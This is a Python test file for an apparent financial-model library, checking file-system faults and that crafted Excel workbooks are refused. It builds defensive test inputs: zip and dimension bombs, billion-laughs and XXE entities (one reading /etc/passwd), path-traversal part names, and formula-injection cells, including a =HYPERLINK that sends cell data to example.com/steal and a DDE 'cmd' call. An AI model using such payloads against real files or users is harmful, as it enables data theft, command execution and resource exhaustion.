"""File-system faults: missing folders, folders as targets, long names, symlink loops, read-only
files, a full disk, and reads bounded in memory before anything is allocated."""

from __future__ import annotations

import base64
import errno
import io
import json
import os
import random
import re
import stat
import subprocess
import sys
import tracemalloc
import warnings
import zipfile
from pathlib import Path

import pytest

from model import ModelError, ModelFileError, fileio, load_model, save_model, validate_model
from model.fileio import MAX_FILE_BYTES, atomic_write
from model.workbook import read_workbook, workbook_bytes
from model.workbook.layout import ASSUMPTIONS, SHEETS
from tests.hostile.generators import ROOT, small

LONG = "a" * 300


@pytest.fixture
def model():
    return validate_model(small())


def refused_write(path, data=b"{}") -> ModelFileError:
    with pytest.raises(ModelFileError) as caught:
        atomic_write(path, data)
    assert "\n" not in str(caught.value)
    return caught.value


def test_a_missing_folder_is_refused(tmp_path):
    error = refused_write(tmp_path / "no" / "such" / "plan.json")
    assert "folder does not exist" in str(error)


def test_a_folder_as_target_is_refused(tmp_path):
    (tmp_path / "plan.json").mkdir()
    assert "not a regular file" in str(refused_write(tmp_path / "plan.json"))


def test_a_name_over_255_bytes_is_refused_before_writing(tmp_path):
    assert "over 255 bytes" in str(refused_write(tmp_path / f"{LONG}.json"))
    assert os.listdir(tmp_path) == []


def test_a_name_just_under_the_limit_is_written(tmp_path):
    """The temporary file's name must fit too: it is built from a shortened name."""
    name = "b" * 250 + ".json"
    atomic_write(tmp_path / name, b"{}")
    assert os.listdir(tmp_path) == [name]


def test_a_loop_of_links_is_refused(tmp_path):
    (tmp_path / "a.json").symlink_to(tmp_path / "b.json")
    (tmp_path / "b.json").symlink_to(tmp_path / "a.json")
    assert "loop of symbolic links" in str(refused_write(tmp_path / "a.json"))
    with pytest.raises(ModelFileError, match="cannot be read"):
        load_model(tmp_path / "a.json")


def test_a_read_only_target_is_refused_not_replaced(tmp_path, model):
    target = tmp_path / "plan.json"
    target.write_text("theirs", encoding="utf-8")
    target.chmod(stat.S_IRUSR | stat.S_IRGRP)
    with pytest.raises(ModelFileError, match="read-only; it was not replaced"):
        save_model(model, target)
    assert target.read_text(encoding="utf-8") == "theirs"
    assert os.listdir(tmp_path) == ["plan.json"]


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EDQUOT, errno.EIO])
def test_a_full_disk_leaves_the_previous_file_and_no_temporary(tmp_path, monkeypatch, model, code):
    target = tmp_path / "plan.json"
    target.write_text("previous", encoding="utf-8")

    real_fdopen = os.fdopen

    class FullDisk:
        def __init__(self, stream):
            self._stream = stream

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self._stream.close()

        def write(self, data):
            raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, "fdopen", lambda fd, mode="r", *a, **k: FullDisk(real_fdopen(fd, mode, *a, **k)))
    with pytest.raises(ModelFileError, match="the previous file is unchanged"):
        save_model(model, target)
    monkeypatch.undo()
    assert target.read_text(encoding="utf-8") == "previous"
    assert os.listdir(tmp_path) == ["plan.json"]


def test_reading_a_missing_file_a_folder_or_a_long_name_is_a_model_error(tmp_path):
    for path in (tmp_path / "missing.json", tmp_path, tmp_path / f"{LONG}.json", tmp_path / "x" / "y.json"):
        with pytest.raises(ModelError) as caught:
            load_model(path)
        assert "\n" not in str(caught.value)


def test_a_workbook_over_the_size_limit_is_refused_before_it_is_opened(tmp_path, monkeypatch):
    path = tmp_path / "huge.xlsx"
    with path.open("wb") as stream:
        stream.truncate(MAX_FILE_BYTES + 1)  # sparse: no disk used
    import model.workbook.reader as reader

    monkeypatch.setattr(reader, "read_workbook", lambda *a: pytest.fail("opened a workbook over the limit"))
    with pytest.raises(ModelFileError, match="files over 50 MB are refused"):
        load_model(path)


def test_every_read_is_bounded_before_allocating(tmp_path, monkeypatch):
    """read_limited never asks for more than the limit plus one byte, whatever the file claims."""
    path = tmp_path / "plan.json"
    path.write_bytes(b" " * 1000)
    sizes = []
    real_open = type(path).open

    def spy(self, *args, **kwargs):
        stream = real_open(self, *args, **kwargs)
        real_read = stream.read
        stream.read = lambda size=-1: sizes.append(size) or real_read(size)
        return stream

    monkeypatch.setattr(type(path), "open", spy)
    assert fileio.read_limited(path, limit=2000) == b" " * 1000
    assert sizes and all(0 <= size <= 2001 for size in sizes)
    with pytest.raises(ModelFileError):  # refused from its size alone, before it is opened
        fileio.read_limited(path, limit=100)


def test_a_recovery_file_is_read_through_the_same_bound(tmp_path, monkeypatch):
    from ui import recovery

    monkeypatch.setattr(recovery, "read_limited", lambda path: (_ for _ in ()).throw(ModelFileError(str(path), "big")))
    with pytest.raises(ModelError):
        recovery.read_recovery(tmp_path / "x.json")


def test_stale_temporaries_are_removed_and_fresh_ones_kept(tmp_path):
    old, fresh = tmp_path / ".plan.json.abc.tmp", tmp_path / ".plan.json.def.tmp"
    for path in (old, fresh):
        path.write_bytes(b"x")
    os.utime(old, (0, 0))
    (tmp_path / "plan.json").write_text(json.dumps({}), encoding="utf-8")
    assert fileio.remove_stale_temporaries(tmp_path, "plan.json") == [old]
    assert fresh.exists() and (tmp_path / "plan.json").exists()


@pytest.mark.parametrize("field", ["asset_classes", "scenarios", "uncertainty.inputs"])
def test_a_file_with_more_entries_than_any_plan_needs_is_refused_first(tmp_path, field):
    """20,000 classes in a 4 MB file took 1.5 GB and a minute to validate and compute: the counts
    are the first thing validation checks."""
    doc = small()
    many = 1001
    if field == "asset_classes":
        doc["asset_classes"] = [{"name": f"C{i}", "treatment": "expensed"} for i in range(many)]
    elif field == "scenarios":
        doc["scenarios"] = {f"S{i}": {} for i in range(many)}
    else:
        doc["uncertainty"]["inputs"] = doc["uncertainty"]["inputs"] * many
    path = tmp_path / "many.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    with pytest.raises(ModelError, match=f"{field}: has 1,001 entries; a model holds at most 1,000"):
        load_model(path)


def test_validation_itself_refuses_more_than_1000_classes():
    doc = small()
    doc["asset_classes"] += [{"name": f"C{i}", "treatment": "expensed"} for i in range(1000)]
    doc["capex"].update({f"C{i}": [0.0] * 4 for i in range(1000)})
    with pytest.raises(ModelError, match="asset_classes: has 1,001 entries; a model holds at most 1,000"):
        validate_model(doc)


# --------------------------------------------------------------------------- crafted workbooks
# Each is an export of a small model with one part made hostile; the reader must refuse it with
# a ModelFileError naming the part and the rule, before openpyxl allocates in proportion to what
# the file declares. Time is bounded by the runner (test_every_crafted_workbook_is_refused_in_a_
# bounded_process), memory by tracemalloc here and by the child's peak resident size there.

ASSUMPTIONS_PART = f"xl/worksheets/sheet{SHEETS.index(ASSUMPTIONS) + 1}.xml"
MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
MAIN_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def exported() -> bytes:
    return workbook_bytes(validate_model(small()))


def rebuild(data: bytes, replace: dict[str, bytes] | None = None, add: list[tuple[str, bytes]] = ()) -> bytes:
    """The workbook ``data`` with some parts replaced and others added (names taken as given)."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of a duplicate name: that is the point
            for name, content in add:
                target.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_sheet_edit(data: bytes, old: bytes, new: bytes) -> bytes:
    sheet = part(data, ASSUMPTIONS_PART)
    assert old in sheet
    return rebuild(data, {ASSUMPTIONS_PART: sheet.replace(old, new, 1)})


def zip_bomb(data: bytes) -> bytes:
    """A part of 64 MB of zeros packed into about 64 kB: written a megabyte at a time."""
    out = io.BytesIO(rebuild(data))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target, target.open("xl/media/image1.png", "w") as stream:
        for _ in range(64):
            stream.write(bytes(1024 * 1024))
    return out.getvalue()


def formats(styles: bytes, count: int) -> bytes:
    """The styles part with ``count`` cell formats more (openpyxl takes seconds per 50,000)."""
    more = b"".join(b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="%d"/>' % i for i in range(count))
    return styles.replace(b"</cellXfs>", more + b"</cellXfs>", 1)


def noise(size: int) -> bytes:
    """Text that does not compress (a zip bomb's ratio is refused first): base64 of random bytes."""
    return base64.b64encode(random.Random(0).randbytes(size))


def attributes(count: int) -> bytes:
    return b" ".join(b'a%d="1"' % i for i in range(count))


def crafted() -> dict[str, tuple[bytes, str]]:
    """name -> (workbook bytes, what the refusal must say: the part and the rule)."""
    data = exported()
    dimension = re.search(rb'<dimension ref="[^"]+"/>', part(data, ASSUMPTIONS_PART)).group()
    without_dimension = part(data, ASSUMPTIONS_PART).replace(dimension, b"")
    last_row = re.findall(rb'<row r="\d+"', without_dimension)[-1]
    whole_sheet = part(data, ASSUMPTIONS_PART).replace(dimension, b'<dimension ref="A1:XFD1048576"/>')
    external = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>'
    parameter = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % p SYSTEM "http://example.com/x.dtd"> %p;]><workbook/>'
    return {
        # Its last row moved a million down: openpyxl pads every row between to the declared
        # width (2.3 GB and 13 s before MemoryError, without these checks).
        "dimension bomb": (
            rebuild(data, {ASSUMPTIONS_PART: whole_sheet.replace(last_row, b'<row r="1048576"')}),
            rf"{ASSUMPTIONS_PART}: declares the dimension 'A1:XFD1048576': .*at most 20,000 rows and 256 columns",
        ),
        # The same, in a workbook whose manifest names no main part: openpyxl falls back to
        # xl/workbook.xml, and so do the checks.
        "dimension bomb, manifest without a main part": (
            rebuild(
                data,
                {
                    ASSUMPTIONS_PART: whole_sheet.replace(last_row, b'<row r="1048576"'),
                    "[Content_Types].xml": part(data, "[Content_Types].xml")
                    .replace(b'<Override PartName="/xl/workbook.xml" ContentType="' + MAIN_TYPE + b'"/>', b"")
                    .replace(
                        b'Extension="xml" ContentType="application/xml"',
                        b'Extension="xml" ContentType="' + MAIN_TYPE + b'"',
                    ),
                },
            ),
            rf"{ASSUMPTIONS_PART}: declares the dimension 'A1:XFD1048576'",
        ),
        "cell in the last column": (
            with_sheet_edit(data, b'<c r="A1"', b'<c r="XFD1"'),
            rf"{ASSUMPTIONS_PART}: Assumptions!XFD1: .*at most 20,000 rows",
        ),
        "row a million down, no dimension": (
            rebuild(data, {ASSUMPTIONS_PART: without_dimension.replace(b'<row r="3"', b'<row r="1048576"', 1)}),
            rf"{ASSUMPTIONS_PART}: Assumptions row 1,048,576: .*at most 20,000 rows",
        ),
        "zip bomb": (
            zip_bomb(data),
            r"xl/media/image1.png'?: unpacks to 1,0\d\d times its packed size \(a zip bomb\); a workbook's parts, 250",
        ),
        "many parts": (
            rebuild(data, add=[(f"xl/media/p{i}.bin", b"") for i in range(1000)]),
            r"has 1,0\d\d parts; a workbook holds at most 1,000",
        ),
        "40,000 attributes": (
            rebuild(
                data,
                {
                    "xl/workbook.xml": part(data, "xl/workbook.xml").replace(
                        b"<workbookPr", b"<workbookPr " + attributes(40_000), 1
                    )
                },
            ),
            r"xl/workbook.xml: element <workbookPr> has 40,00\d attributes; at most 256",
        ),
        "40,000 attributes on a cell": (
            with_sheet_edit(data, b'<c r="A1"', b"<c " + attributes(40_000) + b' r="A1"'),
            rf"{ASSUMPTIONS_PART}: element <c> has 40,00\d attributes",
        ),
        "internal entities": (
            rebuild(data, {"xl/sharedStrings.xml": BILLION_LAUGHS_SST}),
            "xl/sharedStrings.xml: refused: its XML declares entities",
        ),
        "external entity": (
            rebuild(data, {"xl/workbook.xml": external}),
            "xl/workbook.xml: refused: its XML declares entities",
        ),
        "parameter entity": (
            rebuild(data, {"xl/styles.xml": parameter}),
            "xl/styles.xml: refused: its XML declares entities",
        ),
        "cut in half": (data[: len(data) // 2], r"is not a readable Excel workbook \(not a complete zip archive"),
        "last bytes cut": (data[:-10], r"is not a readable Excel workbook \(not a complete zip archive"),
        "damaged part": (
            damaged(data, ASSUMPTIONS_PART),
            rf"{ASSUMPTIONS_PART}: cannot be unpacked \(damaged or cut short\)",
        ),
        "parent folder in a name": (
            rebuild(data, add=[("../../evil.xml", b"<a/>")]),
            r"part '../../evil.xml': is not a plain relative name",
        ),
        "absolute name": (
            rebuild(data, add=[("/etc/evil.xml", b"<a/>")]),
            r"part '/etc/evil.xml': is not a plain relative name",
        ),
        "backslash name": (rebuild(data, add=[("xl\\..\\evil.xml", b"<a/>")]), r"is not a plain relative name"),
        "control character in a name": (
            rebuild(data, add=[("xl/\x1b[2Jevil.xml", b"<a/>")]),
            r"part 'xl/\\x1b\[2Jevil.xml': is not a plain",
        ),
        "a part listed twice": (
            rebuild(data, add=[(ASSUMPTIONS_PART, b"<worksheet/>")]),
            rf"part '{ASSUMPTIONS_PART}': is listed twice",
        ),
        "sheet over its size": (
            with_sheet_edit(
                data,
                b"</sheetData>",
                b"</sheetData>" + b"<!--" + noise(25 * 2**20) + b"-->",
            ),
            rf"{ASSUMPTIONS_PART}: unpacks to 3\d.\d MB; this part holds at most 32 MB",
        ),
        "a comment of 2 MB": (
            with_sheet_edit(data, b"</sheetData>", b"</sheetData><!--" + noise(2 * 2**20) + b"-->"),
            rf"{ASSUMPTIONS_PART}: a comment is 2,7\d\d kB long; a tag, comment or instruction holds at most 64 kB",
        ),
        "an attribute of 2 MB": (
            with_sheet_edit(data, b'<c r="A1"', b'<c x="' + noise(2 * 2**20) + b'" r="A1"'),
            rf"{ASSUMPTIONS_PART}: element <c> is 2,7\d\d kB long",
        ),
        "70,000 cell formats": (
            rebuild(data, {"xl/styles.xml": formats(part(data, "xl/styles.xml"), 70_000)}),
            r"xl/styles.xml: unpacks to 4.\d MB; this part holds at most 1 MB",
        ),
        "a row of more cells than columns": (
            with_sheet_edit(data, b'<c r="A1"', b"<c/>" * 300 + b'<c r="A1"'),
            rf"{ASSUMPTIONS_PART}: Assumptions row 1 lists 257 cells",
        ),
    }


BILLION_LAUGHS_SST = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b"]><sst "
    + MAIN
    + b"><si><t>&lol9;</t></si></sst>"
)


def damaged(data: bytes, name: str) -> bytes:
    """The workbook with the middle of one part's packed bytes overwritten (its listing intact)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    return data[:middle] + bytes(64) + data[middle + 64 :]


CRAFTED = crafted()


@pytest.mark.parametrize("case", list(CRAFTED))
def test_a_crafted_workbook_is_refused_naming_the_part_and_the_rule(tmp_path, case):
    data, expected = CRAFTED[case]
    path = tmp_path / "crafted.xlsx"
    path.write_bytes(data)
    tracemalloc.start()
    try:
        with pytest.raises(ModelFileError) as caught:
            load_model(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    message = str(caught.value)
    assert re.search(expected, message), message
    assert message.startswith(str(path)) and "\n" not in message and "\x1b" not in message
    # What was allocated: the read buffer of the file limit (read_limited asks for 50 MB + 1 at
    # once), a megabyte of a part at a time, and no more; the dimension bomb took 2.5 GB before.
    assert peak < MAX_FILE_BYTES + max(len(data), 20e6), f"{peak / 1e6:.0f} MB"


def test_every_crafted_workbook_is_refused_in_a_bounded_process(tmp_path):
    """The runner bounds time: one child process reads every crafted file and must answer within
    its timeout (a hang is a failure, not a stuck test); its peak resident memory is its own
    figure, C allocations included (the dimension bomb took 2.3 GB before)."""
    paths = []
    for i, (data, _) in enumerate(CRAFTED.values()):
        paths.append(str(tmp_path / f"{i}.xlsx"))
        Path(paths[-1]).write_bytes(data)
    child = (
        "import json, sys\n"
        "from model import ModelFileError, load_model\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n"
        "        load_model(path)\n"
        "        print(json.dumps([path, 'read']))\n"
        "    except ModelFileError as error:\n"
        "        print(json.dumps([path, str(error)]))\n"
        # VmHWM: this process's own peak; ru_maxrss would include the test runner's, kept across exec.
        "status = open('/proc/self/status').read().split('VmHWM:')[1]\n"
        "print(json.dumps(['peak kB', int(status.split()[0])]))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", child, *paths], capture_output=True, text=True, timeout=300, cwd=ROOT, check=True
    )
    answers = dict(json.loads(line) for line in done.stdout.splitlines())
    assert done.stderr == ""
    for path, (_, expected) in zip(paths, CRAFTED.values(), strict=True):
        assert re.search(expected, answers[path]), answers[path]
    assert answers["peak kB"] < 400_000  # kilobytes; the imports alone take about 210 MB


def test_the_limits_let_every_export_through(tmp_path):
    """The widest layout an export writes (a 30-year horizon) is read back whole."""
    model = validate_model(small(horizon=30))
    path = tmp_path / "long.xlsx"
    path.write_bytes(workbook_bytes(model))
    assert read_workbook(path) == model


def test_a_class_name_that_looks_like_a_formula_stays_text_both_ways(tmp_path):
    """A class, scenario or source text beginning with '=' (a formula injection such as
    =HYPERLINK or a DDE call) is written as a text cell, never as a formula, and read back as the
    same text."""
    doc = small()
    name = '=HYPERLINK("http://example.com/steal?"&A1,"click")'
    old = doc["asset_classes"][0]["name"]
    doc["asset_classes"][0]["name"] = name
    doc["capex"][name] = doc["capex"].pop(old)
    doc["sources"] = {"settings.wacc": {"text": "=cmd|' /C calc'!A0"}}
    model = validate_model(doc)
    data = workbook_bytes(model)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    formulas = b"".join(b"".join(re.findall(rb"<f>[^<]*</f>", sheet)) for sheet in sheets)
    assert b"HYPERLINK" not in formulas and b"cmd|" not in formulas
    path = tmp_path / "formula.xlsx"
    path.write_bytes(data)
    back = read_workbook(path)
    assert back["asset_classes"][0]["name"] == name
    assert back["sources"]["settings.wacc"]["text"] == "=cmd|' /C calc'!A0"
    assert back == model
